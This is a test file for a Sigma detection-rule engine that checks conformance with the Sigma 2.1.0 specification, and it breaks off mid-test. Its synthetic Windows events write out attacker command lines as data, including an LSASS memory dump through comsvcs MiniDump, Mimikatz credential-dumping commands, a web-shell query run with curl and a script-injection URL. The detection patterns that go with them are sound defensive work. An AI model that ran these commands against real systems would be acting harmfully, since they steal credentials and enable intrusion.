/**
 * Sigma 2.1.0 conformance of detection rules (correlation and filter rules have their own suite). Every feature of
 * the rules specification (R: §Detection, §Condition) and the modifiers appendix (M), as checklisted in
 * docs/sigma-census.md §1.2–1.4 of ../shared: a rule written as a rule file holds it, loaded by the real loader;
 * events that must match and near misses that must not; both the reference evaluator and the compiled matcher give
 * the expected answer. The cases are self-contained; only the schema examples are read from ../shared.
 */
import assert from "node:assert/strict";
import { Buffer } from "node:buffer";
import { existsSync, readdirSync, readFileSync } from "node:fs";
import { join } from "node:path";
import { describe, test } from "node:test";
import { fileURLToPath } from "node:url";
import type { FieldValue, FieldView } from "../../src/evtx/types.js";
import { CompiledMatcher } from "../../src/sigma/compile/matcher.js";
import type { CompileOptions } from "../../src/sigma/modifiers/index.js";
import { ReferenceEvaluator } from "../../src/sigma/reference.js";
import { loadRuleText } from "../../src/sigma/rule-text.js";
import { detectionRules, loadDetectionRules, view } from "./helpers.js";

// ---- harness ----

type Placeholders = Readonly<Record<string, readonly string[]>>;

interface Case {
  /** The rule as a rule file holds it. */
  readonly rule: string;
  /** Events the rule must match. */
  readonly match: readonly FieldView[];
  /** Near misses: events the rule must not match. */
  readonly miss: readonly FieldView[];
  /** Values of `expand` placeholders. */
  readonly placeholders?: Placeholders;
  /** Set when the engine disagrees with the specification: why. The case still runs, reported as a todo. */
  readonly todo?: string;
}

function compileOptions(placeholders: Placeholders | undefined): CompileOptions {
  return placeholders === undefined ? {} : { placeholders: new Map(Object.entries(placeholders)) };
}

function show(event: FieldView): string {
  return JSON.stringify(Object.fromEntries(event.entries()), (_key, v) => (typeof v === "bigint" ? `${v}n` : v));
}

/** Registers one conformance case: the rule on both evaluators, each event with its expected answer. */
function conformance(name: string, c: Case): void {
  const run = (): void => {
    const rules = loadDetectionRules(c.rule, "conformance.yml");
    assert.equal(rules.length, 1);
    const options = compileOptions(c.placeholders);
    const reference = new ReferenceEvaluator(rules, options);
    const compiled = new CompiledMatcher(rules, options);
    assert.deepEqual(reference.problems, []);
    assert.deepEqual(compiled.problems, []);
    assert.equal(reference.ruleCount, 1, "the rule applies to Windows event logs");
    assert.equal(compiled.ruleCount, 1, "the rule applies to Windows event logs");
    const check = (event: FieldView, expected: boolean, label: string): void => {
      const what = `${label}: ${show(event)}`;
      assert.equal(reference.match(event).length === 1, expected, `reference evaluator, ${what}`);
      assert.equal(compiled.match(event).length === 1, expected, `compiled matcher, ${what}`);
    };
    for (const [i, event] of c.match.entries()) check(event, true, `match[${i}] must match`);
    for (const [i, event] of c.miss.entries()) check(event, false, `miss[${i}] must not match`);
  };
  if (c.todo === undefined) test(name, run);
  else test(name, { todo: c.todo }, run);
}

/** A rule that must never run: the loader or, failing that, both evaluators report it with a reason. */
function rejected(name: string, rule: string, reason: RegExp, placeholders?: Placeholders): void {
  test(name, () => {
    const { rules, problems } = loadRuleText(rule, "conformance.yml");
    if (problems.length > 0) {
      assert.equal(rules.length, 0);
      assert.match(problems[0]?.reason ?? "", reason);
      return;
    }
    const options = compileOptions(placeholders);
    for (const evaluator of [
      new ReferenceEvaluator(detectionRules(rules), options),
      new CompiledMatcher(detectionRules(rules), options),
    ]) {
      assert.equal(evaluator.ruleCount, 0, `${evaluator.constructor.name} must not run the rule`);
      assert.equal(evaluator.problems.length, 1, `${evaluator.constructor.name} must report the rule`);
      assert.match(evaluator.problems[0]?.reason ?? "", reason);
    }
  });
}

// ---- events ----

const raw = String.raw;

/** EventData fields by name (`System.…`, `UserData.…` and `EventData.…` paths as given); undefined removes one. */
type Data = Readonly<Record<string, FieldValue | undefined>>;

interface Source {
  readonly channel: string;
  readonly provider: string;
  readonly eventId: number;
}

function windowsEvent(source: Source, defaults: Data, data: Data): FieldView {
  const fields: Record<string, FieldValue> = {
    "System.Provider.Name": source.provider,
    "System.EventID": source.eventId,
    "System.Channel": source.channel,
    "System.Computer": "WS01.corp.example",
    "System.TimeCreated.SystemTime": "2025-11-27T07:40:10.165324Z",
  };
  for (const [name, value] of Object.entries({ ...defaults, ...data })) {
    const path = /^(System|EventData|UserData)\./.test(name) ? name : `EventData.${name}`;
    if (value === undefined) delete fields[path];
    else fields[path] = value;
  }
  return view(fields);
}

const SYSMON = "Microsoft-Windows-Sysmon/Operational";
const sysmon = (eventId: number): Source => ({ channel: SYSMON, provider: "Microsoft-Windows-Sysmon", eventId });
const security = (eventId: number): Source => ({
  channel: "Security",
  provider: "Microsoft-Windows-Security-Auditing",
  eventId,
});

/** Sysmon EventID 1, a user's cmd.exe started from Explorer unless `data` says otherwise. */
const processCreation = (data: Data = {}): FieldView =>
  windowsEvent(
    sysmon(1),
    {
      RuleName: "-",
      UtcTime: "2025-11-27 07:40:10.132",
      ProcessGuid: "{5770385f-7f2a-6927-2b04-000000001e00}",
      ProcessId: 6144,
      Image: raw`C:\Windows\System32\cmd.exe`,
      FileVersion: "10.0.19041.4355 (WinBuild.160101.0800)",
      Description: "Windows Command Processor",
      Product: "Microsoft® Windows® Operating System",
      Company: "Microsoft Corporation",
      OriginalFileName: "Cmd.Exe",
      CommandLine: raw`"C:\Windows\system32\cmd.exe"`,
      CurrentDirectory: "C:\\Users\\jdoe\\",
      User: raw`CORP\jdoe`,
      LogonGuid: "{5770385f-6a1b-6927-8f2c-5f0000000000}",
      LogonId: "0x5f2c8f",
      TerminalSessionId: 1,
      IntegrityLevel: "Medium",
      Hashes: "SHA256=BC866CFCDDA37E24DC2634DC282C7A0E6F55209DA17A8FA105B07414C0E7C527",
      ParentProcessGuid: "{5770385f-6a1d-6927-6c00-000000001e00}",
      ParentProcessId: 4520,
      ParentImage: raw`C:\Windows\explorer.exe`,
      ParentCommandLine: raw`C:\Windows\Explorer.EXE`,
      ParentUser: raw`CORP\jdoe`,
    },
    data,
  );

/** Security EventID 4688: process_creation under Security's field names (NewProcessName, ParentProcessName). */
const processCreation4688 = (data: Data = {}): FieldView =>
  windowsEvent(
    security(4688),
    {
      SubjectUserSid: "S-1-5-21-3623811015-3361044348-30300820-1104",
      SubjectUserName: "jdoe",
      SubjectDomainName: "CORP",
      SubjectLogonId: "0x5f2c8f",
      NewProcessId: "0x1800",
      NewProcessName: raw`C:\Windows\System32\cmd.exe`,
      TokenElevationType: "%%1938",
      ProcessId: "0x11a8",
      CommandLine: raw`"C:\Windows\system32\cmd.exe"`,
      TargetUserSid: "S-1-0-0",
      TargetUserName: "-",
      TargetDomainName: "-",
      TargetLogonId: "0x0",
      ParentProcessName: raw`C:\Windows\explorer.exe`,
      MandatoryLabel: "S-1-16-8192",
    },
    data,
  );

/** Sysmon EventID 3, PowerShell connecting out over HTTPS unless `data` says otherwise. */
const networkConnection = (data: Data = {}): FieldView =>
  windowsEvent(
    sysmon(3),
    {
      RuleName: "-",
      UtcTime: "2025-11-27 07:40:11.020",
      ProcessGuid: "{5770385f-7f2b-6927-2c04-000000001e00}",
      ProcessId: 3120,
      Image: raw`C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`,
      User: raw`CORP\jdoe`,
      Protocol: "tcp",
      Initiated: true,
      SourceIsIpv6: false,
      SourceIp: "10.20.1.15",
      SourceHostname: "WS01.corp.example",
      SourcePort: 52344,
      SourcePortName: "-",
      DestinationIsIpv6: false,
      DestinationIp: "93.184.215.14",
      DestinationHostname: "-",
      DestinationPort: 443,
      DestinationPortName: "https",
    },
    data,
  );

/** PowerShell EventID 4104 (ps_script) logging one script block. */
const scriptBlock = (text: string): FieldView =>
  windowsEvent(
    { channel: "Microsoft-Windows-PowerShell/Operational", provider: "Microsoft-Windows-PowerShell", eventId: 4104 },
    {
      MessageNumber: 1,
      MessageTotal: 1,
      ScriptBlockText: text,
      ScriptBlockId: "{8c2f6b1e-3f4a-4f7e-9d65-0b4a1c2d3e4f}",
      Path: "",
    },
    {},
  );

const securityEvent = (eventId: number, data: Data = {}): FieldView => windowsEvent(security(eventId), {}, data);

/** Application EventID 1000 (Windows Error Reporting): lsass.exe crashed. */
const applicationCrash = (data: Data = {}): FieldView =>
  windowsEvent(
    { channel: "Application", provider: "Application Error", eventId: 1000 },
    { Data: ["lsass.exe", "10.0.19041.4355"] },
    { "System.Execution.ProcessID": 1172, "System.Execution.ThreadID": 2204, ...data },
  );

const b64 = (text: string): string => Buffer.from(text, "utf8").toString("base64");
const b64utf16le = (text: string): string => Buffer.from(text, "utf16le").toString("base64");
const b64utf16be = (text: string): string => Buffer.from(text, "utf16le").swap16().toString("base64");

// ---- R §Detection: maps, lists, keywords ----

describe("R §Maps, §Lists, §Keywords search: detection structures", () => {
  conformance("map: every field must hold (AND), under Sysmon and Security 4688 field names", {
    rule: raw`
      title: Whoami listing all token information
      logsource: { product: windows, category: process_creation }
      detection:
        selection:
          Image|endswith: '\whoami.exe'
          CommandLine|contains: '/all'
        condition: selection
    `,
    match: [
      processCreation({ Image: raw`C:\Windows\System32\whoami.exe`, CommandLine: "whoami /all" }),
      processCreation4688({ NewProcessName: raw`C:\Windows\System32\whoami.exe`, CommandLine: "whoami.exe /ALL" }),
    ],
    miss: [
      processCreation({ Image: raw`C:\Windows\System32\whoami.exe`, CommandLine: "whoami /priv" }),
      processCreation({ Image: raw`C:\Windows\System32\cmd.exe`, CommandLine: "cmd.exe /c whoami /all" }),
      // The same fields in an event the log source does not cover (Sysmon network connection).
      windowsEvent(sysmon(3), { Image: raw`C:\Windows\System32\whoami.exe`, CommandLine: "whoami /all" }, {}),
    ],
  });

  conformance("list of maps: any map may hold (OR), each map ANDs its own fields", {
    rule: raw`
      title: LSASS dump with comsvcs MiniDump
      logsource: { product: windows, category: process_creation }
      detection:
        selection:
          - Image|endswith: '\rundll32.exe'
            CommandLine|contains: 'comsvcs'
          - OriginalFileName: 'RUNDLL32.EXE'
            CommandLine|contains: 'MiniDump'
        condition: selection
    `,
    match: [
      processCreation({
        Image: raw`C:\Windows\System32\rundll32.exe`,
        OriginalFileName: "RUNDLL32.EXE",
        CommandLine: raw`rundll32.exe C:\windows\System32\comsvcs.dll, #24 624 C:\Users\Public\o.dmp full`,
      }),
      processCreation({
        Image: raw`C:\Users\Public\r.exe`,
        OriginalFileName: "RUNDLL32.EXE",
        CommandLine: raw`r.exe C:\Windows\System32\c0msvcs.dll, MiniDump 624 C:\Users\Public\o.dmp full`,
      }),
    ],
    miss: [
      processCreation({
        Image: raw`C:\Windows\System32\rundll32.exe`,
        OriginalFileName: "RUNDLL32.EXE",
        CommandLine: raw`rundll32.exe shell32.dll,Control_RunDLL desk.cpl`,
      }),
      processCreation({
        Image: raw`C:\Users\Public\r.exe`,
        OriginalFileName: "RUNDLL32.EXE",
        CommandLine: raw`r.exe C:\windows\System32\comsvcs.dll, #24 624 C:\Users\Public\o.dmp full`,
      }),
    ],
  });

  conformance("value list under one field: any value (OR)", {
    rule: raw`
      title: PowerShell started
      logsource: { product: windows, category: process_creation }
      detection:
        selection:
          Image|endswith:
            - '\powershell.exe'
            - '\pwsh.exe'
        condition: selection
    `,
    match: [
      processCreation({ Image: raw`C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe` }),
      processCreation({ Image: raw`C:\Program Files\PowerShell\7\pwsh.exe` }),
    ],
    miss: [processCreation({ Image: raw`C:\Windows\System32\WindowsPowerShell\v1.0\powershell_ise.exe` })],
  });

  conformance("map: the same field under two keys, both must hold", {
    rule: raw`
      title: Screensaver binary in a user folder
      logsource: { product: windows, category: process_creation }
      detection:
        selection:
          Image|startswith: 'C:\Users\'
          Image|endswith: '.scr'
        condition: selection
    `,
    match: [processCreation({ Image: raw`C:\Users\jdoe\Downloads\invoice.scr` })],
    miss: [
      processCreation({ Image: raw`C:\Windows\System32\Bubbles.scr` }),
      processCreation({ Image: raw`C:\Users\jdoe\Downloads\invoice.exe` }),
    ],
  });

  conformance("map of value lists: AND of ORs, integers among them (spec: EventID 517 or 1102)", {
    rule: raw`
      title: Security audit log cleared
      logsource: { product: windows, service: security }
      detection:
        selection:
          Provider_Name: 'Microsoft-Windows-Eventlog'
          EventID:
            - 517
            - 1102
        condition: selection
    `,
    match: [
      windowsEvent(
        { channel: "Security", provider: "Microsoft-Windows-Eventlog", eventId: 1102 },
        { "UserData.LogFileCleared.SubjectUserName": "jdoe", "UserData.LogFileCleared.SubjectDomainName": "CORP" },
        {},
      ),
      windowsEvent({ channel: "Security", provider: "Microsoft-Windows-Eventlog", eventId: 517 }, {}, {}),
    ],
    miss: [
      windowsEvent({ channel: "Security", provider: "Microsoft-Windows-Eventlog", eventId: 1100 }, {}, {}),
      securityEvent(1102),
      windowsEvent({ channel: "System", provider: "Microsoft-Windows-Eventlog", eventId: 104 }, {}, {}),
    ],
  });

  conformance("map of strings that look like numbers (spec: TicketOptions '0x40810000'), case-insensitive", {
    rule: raw`
      title: Kerberoasting with RC4 service tickets
      logsource: { product: windows, service: security }
      detection:
        selection:
          EventID: 4769
          TicketOptions: '0x40810000'
          TicketEncryptionType: '0x17'
        condition: selection
    `,
    match: [
      securityEvent(4769, { ServiceName: "MSSQLSvc", TicketOptions: "0x40810000", TicketEncryptionType: "0x17" }),
      securityEvent(4769, { ServiceName: "MSSQLSvc", TicketOptions: "0X40810000", TicketEncryptionType: "0x17" }),
    ],
    miss: [
      securityEvent(4769, { ServiceName: "MSSQLSvc", TicketOptions: "0x40810000", TicketEncryptionType: "0x12" }),
      securityEvent(4770, { ServiceName: "MSSQLSvc", TicketOptions: "0x40810000", TicketEncryptionType: "0x17" }),
    ],
  });

  conformance("an integer value matches the field's number and its decimal text, not other numbers", {
    rule: raw`
      title: Remote interactive logon
      logsource: { product: windows, service: security }
      detection:
        selection:
          EventID: 4624
          LogonType: 10
        condition: selection
    `,
    match: [securityEvent(4624, { LogonType: 10 }), securityEvent(4624, { LogonType: "10" })],
    miss: [securityEvent(4624, { LogonType: 2 }), securityEvent(4624, { LogonType: "100" })],
  });

  conformance("keyword list: any keyword anywhere in the event (OR), case-insensitive", {
    rule: raw`
      title: Mimikatz event log commands
      logsource: { product: windows }
      detection:
        keywords:
          - 'event::clear'
          - 'event::drop'
        condition: keywords
    `,
    match: [
      processCreation({
        Image: raw`C:\Users\Public\m.exe`,
        CommandLine: 'm.exe "privilege::debug" "EVENT::Drop" exit',
      }),
      scriptBlock(`Invoke-Mimikatz -Command '"event::clear"'`),
    ],
    miss: [
      processCreation({
        Image: raw`C:\Users\Public\m.exe`,
        CommandLine: 'm.exe "privilege::debug" "sekurlsa::logonpasswords" exit',
      }),
      scriptBlock("Clear-EventLog -LogName Security"),
    ],
  });

  conformance("'|all' keywords: every keyword (AND), each anywhere in the event (spec example)", {
    rule: raw`
      title: Exchange OAB virtual directory with an external URL
      logsource: { product: windows, service: msexchange-management }
      detection:
        keywords_cmdlet:
          '|all':
            - 'OabVirtualDirectory'
            - ' -ExternalUrl '
        condition: keywords_cmdlet
    `,
    match: [
      windowsEvent(
        { channel: "MSExchange Management", provider: "MSExchange CmdletLogs", eventId: 1 },
        {
          Data: [
            "Set-OabVirtualDirectory",
            "-Identity 'EX01\\OAB (Default Web Site)' -ExternalUrl 'http://f/<script>Response.Write(1)</script>'",
          ],
        },
        {},
      ),
    ],
    miss: [
      windowsEvent(
        { channel: "MSExchange Management", provider: "MSExchange CmdletLogs", eventId: 1 },
        {
          Data: ["Set-OabVirtualDirectory", "-Identity 'EX01\\OAB (Default Web Site)' -InternalUrl 'https://ex01/OAB'"],
        },
        {},
      ),
      windowsEvent(
        { channel: "MSExchange Management", provider: "MSExchange CmdletLogs", eventId: 1 },
        { Data: ["Set-OwaVirtualDirectory", "-Identity 'EX01\\owa (Default Web Site)' -ExternalUrl 'https://x/owa'"] },
        {},
      ),
    ],
  });
});

// ---- R §Field Usage ----

describe("R §Field Usage: System attributes, names with spaces, field mappings", () => {
  const defender = (threat: string, severity: string, path: string): FieldView =>
    windowsEvent(
      {
        channel: "Microsoft-Windows-Windows Defender/Operational",
        provider: "Microsoft-Windows-Windows Defender",
        eventId: 1116,
      },
      { "Threat Name": threat, "Severity Name": severity, Path: path },
      {},
    );

  conformance("<Provider Name=…> is Provider_Name", {
    rule: raw`
      title: Application crash reported by Windows Error Reporting
      logsource: { product: windows, service: application }
      detection:
        selection:
          Provider_Name: 'Application Error'
          EventID: 1000
        condition: selection
    `,
    match: [applicationCrash({})],
    miss: [applicationCrash({ "System.Provider.Name": "Application Hang" })],
  });

  conformance("<Execution ProcessID=…> is Execution_ProcessID (spec example)", {
    rule: raw`
      title: Event written by the System process
      logsource: { product: windows, service: application }
      detection:
        selection:
          Execution_ProcessID: 4
        condition: selection
    `,
    match: [applicationCrash({ "System.Execution.ProcessID": 4 })],
    miss: [applicationCrash({ "System.Execution.ProcessID": 1172 })],
  });

  conformance("<TimeCreated SystemTime=…> is TimeCreated_SystemTime", {
    rule: raw`
      title: Crash recorded in 2024
      logsource: { product: windows, service: application }
      detection:
        selection:
          TimeCreated_SystemTime|year: 2024
        condition: selection
    `,
    match: [applicationCrash({ "System.TimeCreated.SystemTime": "2024-12-31T23:59:59.999999Z" })],
    miss: [applicationCrash({ "System.TimeCreated.SystemTime": "2025-01-01T00:00:00.000000Z" })],
  });

  conformance("a field name with spaces is written without them (Threat Name is ThreatName)", {
    rule: raw`
      title: Defender detected Mimikatz
      logsource: { product: windows, service: windefend }
      detection:
        selection:
          EventID: 1116
          ThreatName|contains: 'Mimikatz'
        condition: selection
    `,
    match: [defender("HackTool:Win32/Mimikatz.D", "High", raw`file:_C:\Users\Public\m.exe`)],
    miss: [defender("Trojan:Win32/Wacatac.B!ml", "Severe", raw`file:_C:\Users\Public\w.exe`)],
  });
});

// ---- R §Special Field Values, §Field Existence ----

describe("R §Special Field Values, §Field Existence: null, '', exists", () => {
  conformance("null: a field the event lacks (spec example: selection and not filter)", {
    rule: raw`
      title: User account changed with a password last set time
      logsource: { product: windows, service: security }
      detection:
        selection:
          EventID: 4738
        filter:
          PasswordLastSet: null
        condition: selection and not filter
    `,
    match: [
      securityEvent(4738, { TargetUserName: "adm_jdoe", PasswordLastSet: "%%1794" }),
      securityEvent(4738, { TargetUserName: "adm_jdoe", PasswordLastSet: "11/27/2025 7:40:10 AM" }),
    ],
    miss: [
      securityEvent(4738, { TargetUserName: "adm_jdoe" }),
      securityEvent(4738, { TargetUserName: "adm_jdoe", PasswordLastSet: null }),
    ],
  });

  conformance("null is its own type: it does not match the empty value ''", {
    rule: raw`
      title: Process without a description
      logsource: { product: windows, category: process_creation }
      detection:
        selection:
          Description: null
        condition: selection
    `,
    match: [processCreation({ Description: undefined }), processCreation({ Description: null })],
    miss: [processCreation({ Description: "" }), processCreation({ Description: "Windows Command Processor" })],
  });

  conformance("'' is the empty value: not a missing field, not any other text", {
    rule: raw`
      title: Process with an empty description
      logsource: { product: windows, category: process_creation }
      detection:
        selection:
          Description: ''
        condition: selection
    `,
    match: [processCreation({ Description: "" })],
    miss: [
      processCreation({ Description: undefined }),
      processCreation({ Description: null }),
      processCreation({ Description: " " }),
    ],
  });

  conformance("'' and null as two selections under 1 of (spec valid example)", {
    rule: raw`
      title: svchost without version information
      logsource: { product: windows, category: process_creation }
      detection:
        selection_main:
          Image|endswith: '\svchost.exe'
        selection_empty1:
          Description: ''
        selection_empty2:
          Description: null
        condition: selection_main and 1 of selection_empty*
    `,
    match: [
      processCreation({ Image: raw`C:\Users\Public\svchost.exe`, Description: "" }),
      processCreation({ Image: raw`C:\Users\Public\svchost.exe`, Description: undefined }),
    ],
    miss: [
      processCreation({
        Image: raw`C:\Windows\System32\svchost.exe`,
        Description: "Host Process for Windows Services",
      }),
      processCreation({ Image: raw`C:\Users\Public\notepad.exe`, Description: "" }),
    ],
  });

  rejected(
    "null cannot be part of a list of values (spec invalid example): the rule is rejected",
    raw`
      title: Invalid null in a value list
      logsource: { product: windows, category: process_creation }
      detection:
        selection_main:
          Image|endswith: '\svchost.exe'
          Description:
            - ''
            - null
        condition: selection_main
    `,
    /null/,
  );

  conformance("exists: true: the field is present, whatever its value, empty or null (spec example)", {
    rule: raw`
      title: User account changed, password last set recorded
      logsource: { product: windows, service: security }
      detection:
        selection:
          EventID: 4738
          PasswordLastSet|exists: true
        condition: selection
    `,
    match: [
      securityEvent(4738, { PasswordLastSet: "%%1794" }),
      securityEvent(4738, { PasswordLastSet: "" }),
      securityEvent(4738, { PasswordLastSet: null }),
    ],
    miss: [securityEvent(4738, { TargetUserName: "adm_jdoe" }), securityEvent(4724, { PasswordLastSet: "%%1794" })],
  });

  conformance("exists: false: the field is absent", {
    rule: raw`
      title: User account changed, no password last set field
      logsource: { product: windows, service: security }
      detection:
        selection:
          EventID: 4738
          PasswordLastSet|exists: false
        condition: selection
    `,
    match: [securityEvent(4738, { TargetUserName: "adm_jdoe" })],
    miss: [securityEvent(4738, { PasswordLastSet: "%%1794" }), securityEvent(4738, { PasswordLastSet: "" })],
  });
});

// ---- R §General, §String Wildcard, §Escape Character ----

describe("R §General, §String Wildcard: whole values, case, * and ?", () => {
  conformance("a plain value matches the whole field, case-insensitively (no implicit contains)", {
    rule: raw`
      title: Windows PowerShell 64-bit
      logsource: { product: windows, category: process_creation }
      detection:
        selection:
          Image: 'C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe'
        condition: selection
    `,
    match: [
      processCreation({ Image: raw`C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe` }),
      processCreation({ Image: raw`c:\windows\system32\windowspowershell\V1.0\POWERSHELL.EXE` }),
    ],
    miss: [
      processCreation({ Image: raw`C:\Windows\SysWOW64\WindowsPowerShell\v1.0\powershell.exe` }),
      processCreation({ Image: raw`C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe.bak` }),
      processCreation({ Image: raw`D:\C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe` }),
    ],
  });

  conformance("case-insensitive beyond ASCII (a Russian-localised Administrator account)", {
    rule: raw`
      title: Localised administrator runs a process
      logsource: { product: windows, category: process_creation }
      detection:
        selection:
          User|endswith: '\Администратор'
        condition: selection
    `,
    match: [processCreation({ User: raw`CORP\АДМИНИСТРАТОР` }), processCreation({ User: raw`WS01\администратор` })],
    miss: [processCreation({ User: raw`CORP\Administrator` })],
  });

  conformance("* matches any run of characters, none included (spec example antivirus_V*.exe)", {
    rule: raw`
      title: Antivirus binary
      logsource: { product: windows, category: process_creation }
      detection:
        selection:
          Image: '*\antivirus_V*.exe'
        condition: selection
    `,
    match: [
      processCreation({ Image: raw`C:\Program Files\AV\antivirus_V1.exe` }),
      processCreation({ Image: raw`C:\AV\antivirus_V21.2.1.exe` }),
      processCreation({ Image: raw`C:\AV\antivirus_V.exe` }),
    ],
    miss: [
      processCreation({ Image: raw`C:\AV\antivirus_V1.exe.old` }),
      processCreation({ Image: raw`C:\AV\antivirus-V1.exe` }),
    ],
  });

  conformance("? matches exactly one character (spec example prog?.exe)", {
    rule: raw`
      title: progA, progB … binaries
      logsource: { product: windows, category: process_creation }
      detection:
        selection:
          Image: '*\prog?.exe'
        condition: selection
    `,
    match: [processCreation({ Image: raw`C:\Tools\progA.exe` }), processCreation({ Image: raw`C:\Tools\prog7.exe` })],
    miss: [processCreation({ Image: raw`C:\Tools\prog.exe` }), processCreation({ Image: raw`C:\Tools\progAB.exe` })],
  });

  conformance("? is one character even outside the BMP (a homoglyph written as a surrogate pair)", {
    rule: raw`
      title: PowerShell with one letter swapped
      logsource: { product: windows, category: process_creation }
      detection:
        selection:
          Image: '*\p?wershell.exe'
        condition: selection
    `,
    match: [
      processCreation({ Image: raw`C:\Users\Public\p${"\u{1d5fc}"}wershell.exe` }),
      processCreation({ Image: raw`C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe` }),
    ],
    miss: [
      processCreation({ Image: raw`C:\Users\Public\pwershell.exe` }),
      processCreation({ Image: raw`C:\Users\Public\p${"\u{1d5fc}\u{1d5fc}"}wershell.exe` }),
    ],
  });

  conformance("*x* on a plain value is the same as contains", {
    rule: raw`
      title: Execution policy bypass
      logsource: { product: windows, category: process_creation }
      detection:
        selection:
          CommandLine: '*-ExecutionPolicy Bypass*'
        condition: selection
    `,
    match: [processCreation({ CommandLine: "powershell.exe -executionpolicy bypass -File C:\\Users\\Public\\a.ps1" })],
    miss: [processCreation({ CommandLine: "powershell.exe -ExecutionPolicy RemoteSigned -File a.ps1" })],
  });
});

describe("R §Escape Character: every backslash case", () => {
  conformance("\\* is a plain star", {
    rule: raw`
      title: Search for KeePass databases
      logsource: { product: windows, category: process_creation }
      detection:
        selection:
          CommandLine|contains: 'dir /s /b \*.kdbx'
        condition: selection
    `,
    match: [processCreation({ CommandLine: "cmd.exe /c dir /s /b *.kdbx" })],
    // With `*` as a wildcard this would match.
    miss: [processCreation({ CommandLine: "cmd.exe /c dir /s /b passwords.kdbx" })],
  });

  conformance("\\? is a plain question mark", {
    rule: raw`
      title: Web shell command through a query string
      logsource: { product: windows, category: process_creation }
      detection:
        selection:
          CommandLine|contains: 'index.php\?cmd='
        condition: selection
    `,
    match: [processCreation({ CommandLine: "curl.exe http://10.0.0.5/index.php?cmd=whoami" })],
    miss: [processCreation({ CommandLine: "curl.exe http://10.0.0.5/index.phpXcmd=whoami" })],
  });

  conformance("\\\\* is a plain backslash followed by a wildcard", {
    rule: raw`
      title: Binary under a user's AppData
      logsource: { product: windows, category: process_creation }
      detection:
        selection:
          Image|startswith: 'C:\Users\\*\AppData\'
        condition: selection
    `,
    match: [
      processCreation({ Image: raw`C:\Users\jdoe\AppData\Local\Temp\a.exe` }),
      processCreation({ Image: raw`C:\Users\adm_jdoe\AppData\Roaming\b.exe` }),
    ],
    miss: [
      processCreation({ Image: raw`C:\Users\jdoe\Documents\a.exe` }),
      processCreation({ Image: raw`C:\Users2\jdoe\AppData\Local\a.exe` }),
    ],
  });

  conformance("\\\\\\* is a plain backslash followed by a plain star", {
    rule: raw`
      title: Everyone granted full control over System32
      logsource: { product: windows, category: process_creation }
      detection:
        selection:
          CommandLine|contains: 'icacls C:\Windows\System32\\\* /grant'
        condition: selection
    `,
    match: [processCreation({ CommandLine: raw`icacls C:\Windows\System32\* /grant Everyone:F /T /C` })],
    // With `*` as a wildcard this would match.
    miss: [processCreation({ CommandLine: raw`icacls C:\Windows\System32\drivers /grant Everyone:F` })],
  });

  conformance("three backslashes before a plain character are a double backslash", {
    rule: raw`
      title: Admin share mounted
      logsource: { product: windows, category: process_creation }
      detection:
        selection:
          CommandLine|contains: 'net use \\\10.0.0.5\C$'
        condition: selection
    `,
    match: [processCreation({ CommandLine: raw`net use \\10.0.0.5\C$ /user:CORP\adm_jdoe` })],
    miss: [
      processCreation({ CommandLine: raw`net use \10.0.0.5\C$ /user:CORP\adm_jdoe` }),
      processCreation({ CommandLine: raw`net use \\\10.0.0.5\C$ /user:CORP\adm_jdoe` }),
    ],
  });

  conformance("four backslashes are a double backslash", {
    rule: raw`
      title: Admin share mounted
      logsource: { product: windows, category: process_creation }
      detection:
        selection:
          CommandLine|contains: 'net use \\\\10.0.0.5\C$'
        condition: selection
    `,
    match: [processCreation({ CommandLine: raw`net use \\10.0.0.5\C$ /user:CORP\adm_jdoe` })],
    miss: [
      processCreation({ CommandLine: raw`net use \10.0.0.5\C$ /user:CORP\adm_jdoe` }),
      processCreation({ CommandLine: raw`net use \\\10.0.0.5\C$ /user:CORP\adm_jdoe` }),
    ],
  });

  conformance("four backslashes and an escaped star: the share name \\\\*\\IPC$ (Security 5145)", {
    rule: raw`
      title: Access to IPC$ through any server name
      logsource: { product: windows, service: security }
      detection:
        selection:
          EventID: 5145
          ShareName: '\\\\\*\IPC$'
          RelativeTargetName: 'svcctl'
        condition: selection
    `,
    match: [securityEvent(5145, { ShareName: raw`\\*\IPC$`, RelativeTargetName: "svcctl" })],
    miss: [
      securityEvent(5145, { ShareName: raw`\\DC01\IPC$`, RelativeTargetName: "svcctl" }),
      securityEvent(5145, { ShareName: raw`\*\IPC$`, RelativeTargetName: "svcctl" }),
    ],
  });

  conformance("a lone backslash before a plain character or at the end is a plain backslash", {
    rule: raw`
      title: Binary in the Windows Temp folder
      logsource: { product: windows, category: process_creation }
      detection:
        selection:
          Image|startswith: 'C:\Windows\Temp\'
        condition: selection
    `,
    match: [
      processCreation({ Image: raw`C:\Windows\Temp\a.exe` }),
      processCreation({ Image: raw`c:\windows\temp\x\b.exe` }),
    ],
    miss: [processCreation({ Image: raw`C:\Windows\Tempest.exe` }), processCreation({ Image: raw`C:\Windows\a.exe` })],
  });

  conformance("a double backslash before a plain character is one backslash", {
    rule: raw`
      title: cmd.exe written with escaped backslashes
      logsource: { product: windows, category: process_creation }
      detection:
        selection:
          Image: 'C:\\Windows\\System32\\cmd.exe'
        condition: selection
    `,
    match: [processCreation({ Image: raw`C:\Windows\System32\cmd.exe` })],
    miss: [processCreation({ Image: raw`C:\\Windows\\System32\\cmd.exe` })],
  });
});

// ---- M §Generic Modifiers ----

describe("M §Generic Modifiers: contains, startswith, endswith, all, cased, neq", () => {
  conformance("contains: the value anywhere in the field", {
    rule: raw`
      title: Mimikatz logonpasswords
      logsource: { product: windows, category: process_creation }
      detection:
        selection:
          CommandLine|contains: 'sekurlsa::logonpasswords'
        condition: selection
    `,
    match: [
      processCreation({ CommandLine: 'm.exe "privilege::debug" "SEKURLSA::LogonPasswords" exit' }),
      processCreation({ CommandLine: "sekurlsa::logonpasswords" }),
    ],
    miss: [processCreation({ CommandLine: 'm.exe "privilege::debug" "sekurlsa::tickets /export" exit' })],
  });

  conformance("startswith: the value at the start of the field", {
    rule: raw`
      title: Binary in PerfLogs
      logsource: { product: windows, category: process_creation }
      detection:
        selection:
          Image|startswith: 'C:\PerfLogs\'
        condition: selection
    `,
    match: [processCreation({ Image: raw`C:\PerfLogs\a.exe` }), processCreation({ Image: raw`c:\perflogs\x\b.exe` })],
